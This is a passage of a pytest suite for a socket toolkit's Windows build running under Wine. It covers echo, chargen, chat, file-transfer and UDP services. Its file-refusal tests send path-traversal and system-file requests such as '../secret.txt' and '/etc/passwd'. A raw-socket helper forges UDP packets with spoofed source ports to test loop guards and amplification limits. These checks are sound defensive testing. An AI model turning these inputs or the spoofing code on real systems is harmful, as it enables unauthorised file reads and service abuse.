# SPDX-License-Identifier: BSD-2-Clause
"""sockit.exe (the mingw-w64 build) under Wine, on 127.0.0.1.

Every service on every Windows model, over TCP and (on the models that
serve datagrams) UDP, the UDP loop guard, --log, the file transfer with
its path checks, --help and usage errors, multicast and broadcast between
network namespaces, and the Linux and Windows builds talking to each
other.  Skipped, with the reason, when Wine or build-win/sockit.exe is
missing (`make test-windows` builds both) -- unless SOCKIT_REQUIRE_WINE=1
(set by `make test-windows`, so CI cannot pass having run nothing), which
makes that a failure.

Wine keeps its prefix under /tmp, made once per session (its first start
takes seconds), and stays quiet with WINEDEBUG=-all.  A Windows server is
stopped with SIGINT, which Wine turns into the console Ctrl-C event that
sockit handles (SIGTERM makes Wine end the process at once).
"""
import datetime
import hashlib
import json
import os
import re
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

import pytest

from conftest import (SOCKIT, Server, add_a_byte, connect, fill_until_stalled, recv_all,
                      recv_exact, replay_one, small_receiver, swap_pairs, wait_closed)
# The two namespaces joined by a veth pair that the Linux multicast tests
# use (root only; skipped with the reason otherwise).
from test_mcast import GROUP, NEWS, PORT, two_hosts  # noqa: F401 (two_hosts is a fixture)

HERE = os.path.dirname(os.path.abspath(__file__))
SOCKIT_WIN = os.path.abspath(os.environ.get("SOCKIT_WIN") or os.path.join(
    HERE, "..", "..", "build-win", "sockit.exe"))
WINE = shutil.which("wine")
REQUIRE_WINE = os.environ.get("SOCKIT_REQUIRE_WINE") == "1"

if WINE is None:
    MISSING = "wine is not installed (apt-get install wine64)"
elif not os.path.exists(SOCKIT_WIN):
    MISSING = "%s is missing (make windows)" % SOCKIT_WIN
else:
    MISSING = None
if MISSING and REQUIRE_WINE:
    # A collection error: the run fails and says why, nothing passes.
    pytest.fail("SOCKIT_REQUIRE_WINE=1 but %s" % MISSING, pytrace=False)
elif MISSING:
    pytestmark = pytest.mark.skip(reason=MISSING)

WINDOWS_MODELS = ["iterative", "thread", "pool", "select", "poll", "nonblock", "iocp"]
# The Windows models that serve datagrams ("tcp,udp" in --model list).
UDP_WINDOWS_MODELS = ["iterative", "nonblock", "select", "poll", "iocp"]
UNAVAILABLE = {"fork": "fork", "sigio": "SIGIO", "epoll": "Linux only", "uring": "Linux only"}
SERVICES = ["echo", "discard", "chargen", "daytime", "time", "hello", "chat", "file"]
UDP_SERVICES = ["echo", "discard", "chargen", "daytime", "time"]
SECONDS_1900_TO_1970 = 2208988800
IS_ROOT = os.geteuid() == 0


def wine_env():
    env = dict(os.environ)
    env["WINEDEBUG"] = "-all"
    env["WINEPREFIX"] = "/tmp/sockit-wine-%d" % os.getuid()
    env.pop("DISPLAY", None)  # no windows, no dialogs
    return env


WIN = [WINE or "wine", SOCKIT_WIN]


WINESERVER = shutil.which("wineserver")


def stop_wineserver(env):
    """End the wineserver of env's prefix (and every Wine program on it),
    and wait until it is gone."""
    if WINESERVER is None:
        return
    subprocess.run([WINESERVER, "-k"], env=env, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=30)
    subprocess.run([WINESERVER, "-w"], env=env, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=30)


def start_wineserver(env, netns=None):
    """A wineserver for env's prefix that stays until stop_wineserver, with
    Wine's own services started, none of them holding a test's pipes.

    Without it every Wine program started when no wineserver runs starts
    one, and services that inherit the program's stdout and stderr: a test
    reading those to the end then waits until the server quits, 3 s after
    the last program, and the next program starts it all again."""
    ns = ["ip", "netns", "exec", netns] if netns else []

    def warm_up():
        subprocess.run(ns + WIN + ["--help"], env=env, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)

    if WINESERVER is None:
        return warm_up()
    if not os.path.isdir(env["WINEPREFIX"]):
        warm_up()  # the first start makes the prefix (wineserver needs it)
    # `wineserver -p` does nothing while another server runs: stop that.
    stop_wineserver(env)
    subprocess.run(ns + [WINESERVER, "-p"], env=env, stdin=subprocess.DEVNULL,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
    warm_up()


@pytest.fixture(scope="session")
def wine():
    """Create (or update) the Wine prefix once and keep its wineserver
    running for the session; returns the environment.  A Wine that cannot
    run sockit.exe at all fails every test here."""
    env = wine_env()
    start_wineserver(env)
    r = subprocess.run(WIN + ["--help"], env=env, stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=300)
    if r.returncode != 0 or not r.stdout.startswith(b"usage: sockit"):
        pytest.fail("wine %s --help failed (exit %s): %r %r"
                    % (SOCKIT_WIN, r.returncode, r.stdout[-300:], r.stderr[-300:]))
    yield env
    stop_wineserver(env)


@pytest.fixture
def winserve(wine):
    """winserve(*args) starts `wine sockit.exe serve`; each must stop with exit 0."""
    started = []

    def start(*args):
        srv = Server(args, env=wine, command=WIN, stop_signal=signal.SIGINT, ready_timeout=30)
        started.append(srv)
        return srv

    yield start
    failures = []
    for srv in started:
        rc = srv.stop(timeout=20)
        if rc != 0:
            failures.append("%s exited %s:\n%s" % (srv.args, rc, srv.log()))
    assert not failures, "\n".join(failures)


def win(wine, *args, input=None, timeout=60, cwd=None):
    """Run a Windows sockit client under Wine."""
    return subprocess.run(WIN + [str(a) for a in args], input=input, env=wine,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout,
                          cwd=cwd)


def linux(*args, input=None, timeout=30, cwd=None):
    return subprocess.run([SOCKIT] + [str(a) for a in args], input=input,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout,
                          cwd=cwd)


@pytest.fixture
def linuxserve():
    started = []

    def start(*args):
        srv = Server(args)
        started.append(srv)
        return srv

    yield start
    for srv in started:
        assert srv.stop() == 0, srv.log()


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """A root with files of 0 B, 1 B and 3 MiB, and their SHA-256."""
    root = tmp_path_factory.mktemp("winroot")
    sizes = {"empty.bin": 0, "one.bin": 1, "big.bin": 3 * 1024 * 1024 + 17}
    digests = {}
    for name, size in sizes.items():
        data = os.urandom(size)
        (root / name).write_bytes(data)
        digests[name] = hashlib.sha256(data).hexdigest()
    (root / "sub").mkdir()
    (root / "sub" / "inner.txt").write_bytes(b"inside\n")
    outside = tmp_path_factory.mktemp("winoutside")
    (outside / "secret.txt").write_bytes(b"secret\n")
    os.symlink(str(outside / "secret.txt"), str(root / "escape.txt"))
    return root, digests


def fetch(port, name):
    """The file protocol by hand: (header line, body)."""
    with connect("127.0.0.1", port) as s:
        s.sendall(name.encode() + b"\n")
        buf = bytearray()
        while b"\n" not in buf:
            chunk = s.recv(4096)
            assert chunk, "closed before the header: %r" % bytes(buf)
            buf += chunk
        header, _, rest = bytes(buf).partition(b"\n")
        body = bytearray(rest)
        if header.startswith(b"OK "):
            size = int(header[3:])
            while len(body) < size:
                chunk = s.recv(1 << 20)
                assert chunk, "short body: %d of %d" % (len(body), size)
                body += chunk
            assert s.recv(1) == b""  # the server half-closed
            s.sendall(b"Thank you\n")
            s.shutdown(socket.SHUT_WR)
        return header.decode(), bytes(body)


def chargen_bytes(n):
    ring = bytes(range(32, 127))
    out = bytearray()
    line = 0
    while len(out) < n:
        start = line % 95
        out += (ring + ring)[start:start + 72] + b"\r\n"
        line += 1
    return bytes(out[:n])


class Lines:
    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def next(self):
        while b"\n" not in self.buf:
            chunk = self.sock.recv(4096)
            assert chunk, "closed; have %r" % self.buf
            self.buf += chunk
        line, _, self.buf = self.buf.partition(b"\n")
        return line + b"\n"

    def until(self, text):
        """The first line containing text (the welcome line comes first)."""
        for _ in range(20):
            line = self.next()
            if text in line:
                return line
        raise AssertionError("no line with %r" % text)


def check_service(service, port):
    if service == "echo":
        with connect("127.0.0.1", port) as s:
            payload = os.urandom(200000)
            s.sendall(payload)
            assert recv_exact(s, len(payload)) == payload
    elif service == "discard":
        with connect("127.0.0.1", port) as s:
            s.sendall(b"x" * 100000)
            s.shutdown(socket.SHUT_WR)
            assert recv_all(s) == b""
    elif service == "chargen":
        with connect("127.0.0.1", port) as s:
            assert recv_exact(s, 5000) == chargen_bytes(5000)
    elif service == "daytime":
        with connect("127.0.0.1", port) as s:
            data = recv_all(s)
        assert data.endswith(b"-UTC\r\n"), data
    elif service == "time":
        with connect("127.0.0.1", port) as s:
            data = recv_all(s)
        (value,) = struct.unpack("!I", data)
        assert abs(value - (int(time.time()) + SECONDS_1900_TO_1970)) < 5
    elif service == "hello":
        with connect("127.0.0.1", port) as s:
            assert recv_all(s) == b"Hello World!\n"
    elif service == "chat":
        # b connects only once a is in the room (its welcome came): on
        # pool and thread the two joins run on different threads, and a
        # that joins second never hears "b joined".
        with connect("127.0.0.1", port) as a:
            la = Lines(a)
            la.until(b"welcome")
            with connect("127.0.0.1", port) as b:
                lb = Lines(b)
                la.until(b"joined")  # b joined
                a.sendall(b"hello from a\n")
                assert lb.until(b"] hello").endswith(b"] hello from a\n")
    else:
        raise AssertionError(service)


# ---- the model table ------------------------------------------------------

def windows_model_rows(wine):
    """{model: (protocols, line)} from `sockit.exe serve --model list`."""
    out = win(wine, "serve", "--model", "list").stdout.decode()
    rows = {}
    for line in out.splitlines()[1:]:
        fields = line.split()
        rows[fields[0]] = (fields[2].split(","), line)
    return rows


def test_model_list(wine):
    rows = windows_model_rows(wine)
    for model in WINDOWS_MODELS:
        assert "unavailable" not in rows[model][1], rows[model]
    for model, why in UNAVAILABLE.items():
        assert "unavailable" in rows[model][1] and why in rows[model][1], rows[model]
    assert "[default]" in rows["iocp"][1], rows["iocp"]
    # Every model that runs on Windows is tested here, and every one that
    # serves datagrams is in the UDP tests: a new one cannot slip past.
    available = [m for m, (_, line) in rows.items() if "unavailable" not in line]
    assert sorted(available) == sorted(WINDOWS_MODELS)
    assert sorted(m for m in available if "udp" in rows[m][0]) == sorted(UDP_WINDOWS_MODELS)


def test_iocp_unavailable_on_linux():
    out = linux("serve", "--model", "list").stdout.decode()
    row = [line for line in out.splitlines() if line.startswith("iocp ")]
    assert row and "unavailable: Windows only" in row[0], out


# ---- every service on every Windows model --------------------------------

@pytest.mark.parametrize("model", WINDOWS_MODELS)
@pytest.mark.parametrize("service", [s for s in SERVICES if s != "file"])
def test_service_on_model(winserve, model, service):
    if service == "chat" and model == "iterative":
        pytest.skip("chat on iterative serves one member at a time")
    srv = winserve(service, "-l", "127.0.0.1", "-p", "0", "-m", model)
    check_service(service, srv.port)


@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_file_transfer(winserve, files, model):
    root, digests = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", model, "--root", str(root))
    for name, digest in digests.items():
        header, body = fetch(srv.port, name)
        assert header == "OK %d" % len(body), header
        assert hashlib.sha256(body).hexdigest() == digest
    srv.wait_for_log(r"Thank you")


@pytest.mark.parametrize("name, answer", [
    ("../secret.txt", "ERR path refused: '..' component"),
    ("/etc/passwd", "ERR path refused: absolute path"),
    ("C:x", "ERR path refused: drive or stream name"),
    ("one.bin:stream", "ERR path refused: drive or stream name"),
    ("sub\\inner.txt", "ERR path refused: backslash in name"),
    ("sub", "ERR not a regular file"),
    # \\?\ paths take device names literally: no such file, never the device
    ("NUL", "ERR no such file"),
    ("missing.txt", "ERR no such file"),
    ("escape.txt", "ERR path refused: leaves the root"),
])
def test_file_refusals(winserve, files, name, answer):
    root, _ = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--root", str(root))
    header, _ = fetch(srv.port, name)
    assert header == answer


def test_file_subdirectory(winserve, files):
    root, _ = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", "select", "--root", str(root))
    assert fetch(srv.port, "sub/./inner.txt") == ("OK 7", b"inside\n")


@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_file_refuses_nul_and_backslash(winserve, files, model):
    """A NUL byte or a backslash anywhere in the name is refused with an
    ERR line on every model (Windows would take a backslash as a separator
    and a NUL as the end of the name), and the next request is served."""
    root, digests = files
    srv = winserve("file", "-l", "127.0.0.1", "-p", "0", "-m", model, "--root", str(root))
    for name, answer in [
        ("one.bin\0", "ERR path refused: NUL byte in name"),
        ("one\0.bin", "ERR path refused: NUL byte in name"),
        ("\0one.bin", "ERR path refused: NUL byte in name"),
        ("sub\\inner.txt", "ERR path refused: backslash in name"),
        ("\\one.bin", "ERR path refused: backslash in name"),
        ("..\\secret.txt", "ERR path refused: backslash in name"),
        ("sub\\..\\one.bin", "ERR path refused: backslash in name"),
        ("C:\\Windows\\win.ini", "ERR path refused: backslash in name"),
    ]:
        header, body = fetch(srv.port, name)
        assert (header, body) == (answer, b""), name
    header, body = fetch(srv.port, "one.bin")
    assert header == "OK 1" and hashlib.sha256(body).hexdigest() == digests["one.bin"]


# ---- UDP ------------------------------------------------------------------

@pytest.mark.parametrize("model", UDP_WINDOWS_MODELS)
def test_udp_echo(winserve, wine, model):
    srv = winserve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(b"datagram", ("127.0.0.1", srv.port))
        assert s.recvfrom(100)[0] == b"datagram"
    for extra in ([], ["--connected"]):
        r = win(wine, "echo", "-u", *extra, "127.0.0.1", srv.port, "ping")
        assert (r.returncode, r.stdout) == (0, b"ping\n"), r.stderr


def udp_ask(port, payload, timeout=3.0, sock=None):
    """Send one datagram to 127.0.0.1:port; the reply, or None when none
    comes within timeout."""
    s = sock or socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.settimeout(timeout)
        s.sendto(payload, ("127.0.0.1", port))
        try:
            data, src = s.recvfrom(65536)
        except socket.timeout:
            return None
        assert src == ("127.0.0.1", port), src
        return data
    finally:
        if sock is None:
            s.close()


def check_time_reply(data):
    assert data is not None and len(data) == 4, data
    (value,) = struct.unpack("!I", data)
    assert abs(value - (int(time.time()) + SECONDS_1900_TO_1970)) < 5, value


def check_daytime_reply(data):
    """One line "Weekday, Month Day, Year HH:MM:SS-UTC\r\n", near now."""
    assert data is not None and data.endswith(b"-UTC\r\n") and data.count(b"\n") == 1, data
    text = data[:-len(b"-UTC\r\n")].decode("ascii")
    when = datetime.datetime.strptime(text, "%A, %B %d, %Y %H:%M:%S")
    when = when.replace(tzinfo=datetime.timezone.utc)
    assert abs(when.timestamp() - time.time()) < 5, text


@pytest.mark.parametrize("model", UDP_WINDOWS_MODELS)
@pytest.mark.parametrize("service", UDP_SERVICES)
def test_udp_service_on_model(winserve, service, model):
    """Every UDP service on every Windows model that serves datagrams,
    answering what RFCs 862-868 say (and discard and an empty chargen
    request not at all); the stop line counts every datagram."""
    srv = winserve(service, "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    sent = 0
    if service == "echo":
        for payload in (b"ping", os.urandom(1400), b"x" * 8000):
            assert udp_ask(srv.port, payload) == payload
            sent += 1
    elif service == "discard":
        for payload in (b"into the void", b"y" * 1000):
            assert udp_ask(srv.port, payload, timeout=0.7) is None
            sent += 1
    elif service == "time":
        for payload in (b"", b"any request at all"):
            check_time_reply(udp_ask(srv.port, payload))
            sent += 1
    elif service == "daytime":
        for payload in (b"", b"what time is it?"):
            check_daytime_reply(udp_ask(srv.port, payload))
            sent += 1
    elif service == "chargen":
        for size in (1, 100, 511, 512, 513, 1400):
            reply = udp_ask(srv.port, b"x" * size)
            assert reply == chargen_bytes(min(size, 512)), (size, reply)
            assert len(reply) <= size  # never an amplifier
            sent += 1
        assert udp_ask(srv.port, b"", timeout=0.7) is None
        sent += 1
    assert srv.stop(timeout=20) == 0, srv.log()
    srv.wait_for_log(r"stopped: %d datagrams, 0 dropped" % sent)


def forge_udp(src_port, dst_port, payload, src="127.0.0.1", dst="127.0.0.1"):
    """A UDP datagram with any source port, through a raw socket (root):
    the kernel fills in the IP checksum and length; a UDP checksum of 0
    means "none" over IPv4.  (The server's own port is bound by the server,
    so no ordinary socket can send from it.)"""
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                     socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try:
        raw.sendto(ip + udp, (dst, 0))
    finally:
        raw.close()


@pytest.mark.parametrize("model", UDP_WINDOWS_MODELS)
def test_udp_loop_guard(winserve, tmp_path, model):
    """A datagram from port 7 (echo: it would answer back) or from the
    server's own port gets no reply, is counted as dropped and is not
    logged; an ordinary client is still answered."""
    if not IS_ROOT:
        pytest.skip("binding port 7 and raw sockets need root (running as uid %d)"
                    % os.geteuid())
    log = tmp_path / "udp.log"
    srv = winserve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model, "-v",
                   "--log", str(log))
    seven = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    seven.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        try:
            seven.bind(("127.0.0.1", 7))
        except OSError as e:
            pytest.fail("cannot bind 127.0.0.1 port 7 for the sender: %s" % e)
        assert udp_ask(srv.port, b"loop from 7?", timeout=0.7, sock=seven) is None
    finally:
        seven.close()
    forge_udp(srv.port, srv.port, b"loop from your own port?")
    srv.wait_for_log(r"\(2 dropped\)", timeout=10)
    assert udp_ask(srv.port, b"fine") == b"fine"
    assert srv.stop(timeout=20) == 0, srv.log()
    text = srv.log()
    assert text.count("dropped: source port of a service that answers back") == 1, text
    assert text.count("dropped: source port is this server's own port") == 1, text
    srv.wait_for_log(r"stopped: 3 datagrams, 2 dropped")
    assert log.read_bytes() == b"fine"


def stopped_datagrams(srv):
    """(datagrams, dropped) from the stop line of a server that has stopped."""
    assert srv.stop(timeout=20) == 0, srv.log()
    m = srv.wait_for_log(r"stopped: (\d+) datagrams, (\d+) dropped")
    return int(m.group(1)), int(m.group(2))


@pytest.mark.parametrize("model", UDP_WINDOWS_MODELS)
def test_udp_abuse_loop_pair_dies_out(winserve, model):
    """daytime and chargen answer each other's made-up bytes: one forged
    datagram between them used to loop forever; the reply guard ends it
    within a few round trips (test_udp_abuse.py has every pair)."""
    if not IS_ROOT:
        pytest.skip("forging a source address needs a raw socket (running as uid %d)"
                    % os.geteuid())
    a = winserve("daytime", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    b = winserve("chargen", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    for i in range(20):
        forge_udp(b.port, a.port, b"loop %d " % i * (i + 1))
    time.sleep(2)
    (na, _), (nb, _) = stopped_datagrams(a), stopped_datagrams(b)
    assert na >= 20 and nb >= 1, (na, nb)   # the forgery started the exchange
    assert na < 100 and nb < 100, "still exchanging: %d and %d datagrams" % (na, nb)


@pytest.mark.parametrize("model", UDP_WINDOWS_MODELS)
def test_udp_abuse_amplification_is_rate_limited(winserve, model):
    """1,000 empty datagrams to time from one source get its burst (5) and
    5 a second; the limiting is logged once; another source is answered."""
    srv = winserve("time", "-u", "-l", "127.0.0.1", "-p", "0", "-m", model)
    replies = 0
    start = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(1000):
            s.sendto(b"", ("127.0.0.1", srv.port))
        s.settimeout(1.0)
        try:
            while True:
                s.recvfrom(100)
                replies += 1
        except socket.timeout:
            pass
    elapsed = time.monotonic() - start
    assert 1 <= replies <= 5 + 5 * elapsed, "%d replies in %.1f s" % (replies, elapsed)
    check_time_reply(udp_ask(srv.port, b""))
    n, dropped = stopped_datagrams(srv)
    assert n - dropped == replies + 1, (n, dropped, replies)
    assert srv.log().count("replies longer than the request are limited") == 1, srv.log()


def test_udp_connected_refused(wine):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    r = win(wine, "echo", "-u", "--connected", "--timeout", "1", "127.0.0.1", port, "x")
    assert r.returncode == 1, (r.stdout, r.stderr)


# ---- usage errors and clients --------------------------------------------

@pytest.mark.parametrize("args, code", [
    (["serve", "nosuch"], 2),
    (["serve", "echo", "-m", "nosuch"], 2),
    (["serve", "echo", "-m", "fork", "-l", "127.0.0.1", "-p", "0"], 1),
    (["serve", "echo", "-p", "70000"], 2),
    (["echo"], 2),
    (["get", "127.0.0.1"], 2),
    (["nosuchcommand"], 2),
])
def test_exit_codes(wine, args, code):
    r = win(wine, *args)
    assert r.returncode == code, (r.stdout, r.stderr)
    assert r.stderr.decode().strip(), "no message on stderr"


def test_connection_refused_exit_1(wine):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    r = win(wine, "echo", "127.0.0.1", port, "x", "--timeout", "2")
    assert r.returncode == 1
    assert b"refused" in r.stderr, r.stderr


def test_lookup_addr_sockopt(wine):
    r = win(wine, "lookup", "localhost")
    assert r.returncode == 0 and b"127.0.0.1" in r.stdout, r.stdout + r.stderr
    r = win(wine, "addr", "10.1")
    assert r.returncode == 0 and b"10.0.0.1" in r.stdout, r.stdout + r.stderr
    r = win(wine, "sockopt", "nodelay=on")
    assert r.returncode == 0 and b"nodelay" in r.stdout, r.stdout + r.stderr
    r = win(wine, "sockopt")
    assert r.returncode == 0 and b"n/a" in r.stdout, r.stdout + r.stderr


def test_bench_against_iocp(winserve, wine):
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp")
    r = linux("bench", "127.0.0.1", srv.port, "-c", "4", "-d", "4", "-n", "2000")
    assert r.returncode == 0, r.stdout + r.stderr
    r = win(wine, "bench", "127.0.0.1", srv.port, "-c", "2", "-d", "2", "-n", "500")
    assert r.returncode == 0, r.stdout + r.stderr


def test_bench_json_is_the_same_on_windows(winserve, wine, tmp_path):
    """The Windows build writes and reads JSON with cli_json_builtin.c, Linux
    with json-c: each reads what the other wrote, and what Python rewrote."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp")
    r = win(wine, "bench", "127.0.0.1", srv.port, "-n", "300", "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    from_win = json.loads(r.stdout.decode().splitlines()[-1])
    assert type(from_win["port"]) is int and from_win["sockit_version"] and from_win["timestamp"]
    (tmp_path / "win.json").write_bytes(r.stdout)
    (tmp_path / "py.json").write_text(json.dumps(from_win, indent=2, sort_keys=True))
    r = linux("bench", "127.0.0.1", srv.port, "-n", "200", "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    (tmp_path / "linux.json").write_bytes(r.stdout)
    files = ["win.json", "py.json", "linux.json"]
    for run in (lambda *a: win(wine, *a, cwd=tmp_path), lambda *a: linux(*a, cwd=tmp_path)):
        r = run("bench", "--merge", *files, "--json")
        assert r.returncode == 0, r.stdout + r.stderr
        assert json.loads(r.stdout.decode())["msgs"] == 800
    (tmp_path / "bad.json").write_text('{"type":"final",')
    r = win(wine, "bench", "--merge", "bad.json", cwd=tmp_path)
    assert r.returncode == 1 and b"not valid JSON" in r.stderr, r.stdout + r.stderr


def test_idle_timeout_and_max_conns(winserve):
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--idle-timeout", "1",
                   "--max-conns", "1")
    with connect("127.0.0.1", srv.port) as a:
        a.sendall(b"x")
        assert recv_exact(a, 1) == b"x"
        with connect("127.0.0.1", srv.port) as b:
            assert recv_all(b).startswith(b"ERR server busy")
        a.settimeout(5)
        assert recv_all(a) == b""  # closed as idle
    srv.wait_for_log(r"idle for 1000 ms")


def echo_many_at_once(port, count, size):
    """count clients, all connected before any speaks, each echoing size
    random bytes at the same time; returns the ones that got them back."""
    socks = [connect("127.0.0.1", port) for _ in range(count)]
    ok = []

    def run(s):
        payload = os.urandom(size)
        s.settimeout(30)
        sender = threading.Thread(target=s.sendall, args=(payload,), daemon=True)
        sender.start()
        got = recv_exact(s, size)
        sender.join(30)
        if got == payload:
            ok.append(s)
    threads = [threading.Thread(target=run, args=(s,), daemon=True) for s in socks]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    for s in socks:
        s.close()
    return ok


def test_iocp_workers_serve_many_concurrent_clients(winserve):
    """--workers 2: worker 0 accepts and hands every other connection to
    worker 1's port; 64 clients at once all get their bytes back, and the
    server stops cleanly with the connections gone (exit 0 in winserve)."""
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--workers", "2")
    assert len(echo_many_at_once(srv.port, 64, 100000)) == 64
    # And again on the same server: handed-over sockets were released.
    assert len(echo_many_at_once(srv.port, 16, 10000)) == 16


def test_iocp_workers_max_clients_then_exit(wine):
    """--max-clients counts the connections of both workers: after 10 the
    server stops accepting and exits 0 by itself once they are served."""
    srv = Server(["echo", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--workers", "2",
                  "--max-clients", "10"], env=wine, command=WIN, stop_signal=signal.SIGINT,
                 ready_timeout=30)
    try:
        assert len(echo_many_at_once(srv.port, 10, 1000)) == 10
        rc = srv.proc.wait(20)
    finally:
        srv.kill()
    assert rc == 0, srv.log()


def test_iocp_chat_slow_member_dropped_others_get_everything(winserve):
    """A chat member that never reads is dropped once it took nothing for
    2 s while lines waited for it ("dropping slow member PEER: output full
    (...)"); the room held back for it until then, so the members that
    read get every line of every talker."""
    srv = winserve("chat", "-l", "127.0.0.1", "-p", "0", "-q", "-m", "iocp")
    slow = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    slow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    slow.settimeout(30)
    slow.connect(("127.0.0.1", srv.port))
    slow_peer = "%s:%d" % slow.getsockname()[:2]
    assert read_line(slow).startswith(b"* welcome")  # then never reads
    members = []
    for i in range(3):  # one at a time: each welcome counts everyone before it
        s = connect("127.0.0.1", srv.port)
        s.settimeout(30)
        assert b"; %d others here" % (i + 1) in read_line(s)
        members.append({"sock": s, "peer": "%s:%d" % s.getsockname()[:2], "data": bytearray()})

    def read(m):
        try:
            while True:
                chunk = m["sock"].recv(1 << 16)
                if not chunk:
                    return
                m["data"] += chunk
        except OSError:
            return
    readers = [threading.Thread(target=read, args=(m,), daemon=True) for m in members]
    for t in readers:
        t.start()
    talkers = members[1:]  # members[0] only listens
    pad = b"." * 300
    sent = 0
    start = time.monotonic()
    dropped_at = None
    while time.monotonic() - start < 20:
        for i, t in enumerate(talkers):  # about 650 kB/s in all
            t["sock"].sendall(b"".join(b"t%d %06d %s\n" % (i, j, pad)
                                       for j in range(sent, sent + 10)))
        sent += 10
        time.sleep(0.01)
        if dropped_at is None and any("dropping slow member" in l for l in srv.lines):
            dropped_at = time.monotonic() - start
        if dropped_at is not None and time.monotonic() - start > dropped_at + 1.0:
            break  # talk on a while after the drop: nobody else may suffer
    assert dropped_at is not None, "the slow member was never dropped:\n" + srv.log()
    want = {t["peer"]: [b"t%d %06d %s" % (i, j, pad) for j in range(sent)]
            for i, t in enumerate(talkers)}

    def lines_from(m, peer):
        prefix = b"[%s] " % peer.encode()
        return [l[len(prefix):] for l in bytes(m["data"]).split(b"\n") if l.startswith(prefix)]
    deadline = time.monotonic() + 30
    for m in members:
        for peer, lines in want.items():
            while (peer != m["peer"] and len(lines_from(m, peer)) < len(lines)
                   and time.monotonic() < deadline):
                time.sleep(0.05)
    for m in members:
        m["sock"].shutdown(socket.SHUT_WR)
    for t in readers:
        t.join(10)
    for m in members:
        m["sock"].close()
    slow.close()
    for m in members:
        for peer, lines in want.items():
            if peer != m["peer"]:
                got = lines_from(m, peer)
                assert got == lines, "%s got %d of %d lines from %s" % (
                    m["peer"], len(got), len(lines), peer)
    drops = [l for l in srv.lines if "dropping" in l]
    assert len(drops) == 1 and ("dropping slow member %s: output full" % slow_peer) in drops[0], \
        drops
    print("\niocp: slow member dropped after %.2f s; %d lines per talker" % (dropped_at, sent))


# ---- --log FILE -------------------------------------------------------------

@pytest.mark.parametrize("model", WINDOWS_MODELS)
def test_log_file_gets_exactly_what_clients_sent(winserve, tmp_path, model):
    """--log on Windows (a writer thread fed by a pipe): after the server
    stops, the file holds every byte the clients sent, nothing else."""
    log = tmp_path / "messages.log"
    srv = winserve("echo", "-l", "127.0.0.1", "-p", "0", "-m", model, "--log", str(log))
    sent = [b"message %d from a client\n" % i for i in range(10)]
    sent.append(bytes(range(256)) * 300)  # binary, 76800 bytes: no CR/LF translation
    for m in sent:
        with connect("127.0.0.1", srv.port) as s:
            s.sendall(m)
            assert recv_exact(s, len(m)) == m
    assert srv.stop(timeout=20) == 0, srv.log()
    assert log.read_bytes() == b"".join(sent)


def test_log_file_appends_and_takes_datagrams(winserve, tmp_path):
    """--log appends to what the file held, and takes UDP datagrams too."""
    log = tmp_path / "both.log"
    log.write_bytes(b"already here\n")
    srv = winserve("echo", "-u", "-l", "127.0.0.1", "-p", "0", "-m", "iocp", "--log", str(log))
    for m in (b"first datagram\n", b"second datagram\n"):
        assert udp_ask(srv.port, m) == m
    assert srv.stop(timeout=20) == 0, srv.log()
    assert log.read_bytes() == b"already here\nfirst datagram\nsecond datagram\n"


def test_log_file_unwritable_is_one_line(wine, tmp_path):
    r = win(wine, "serve", "echo", "-l", "127.0.0.1", "-p", "0",
            "--log", str(tmp_path / "no" / "dir" / "x.log"))
    lines = r.stderr.decode().splitlines()
    assert r.returncode == 1, r
    assert len(lines) == 1 and "--log" in lines[0], lines


# ---- --help and usage errors, subcommand by subcommand ----------------------

# What `sockit.exe --help` lists; test_subcommand_list keeps this in step.
SUBCOMMANDS = ["serve", "echo", "get", "chat", "connect", "listen", "time", "lookup", "addr",
               "sockopt", "mcast", "bench", "compare"]


def test_subcommand_list(wine):
